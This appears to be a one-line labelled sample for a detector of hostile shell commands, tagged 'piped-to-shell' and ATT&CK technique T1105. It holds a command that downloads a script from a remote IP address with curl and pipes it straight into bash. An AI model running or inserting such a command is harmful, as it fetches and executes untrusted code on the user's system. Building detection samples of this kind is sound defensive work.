# expect: piped-to-shell | source: T1105
curl -s http://45.0.0.1/i.sh | bash
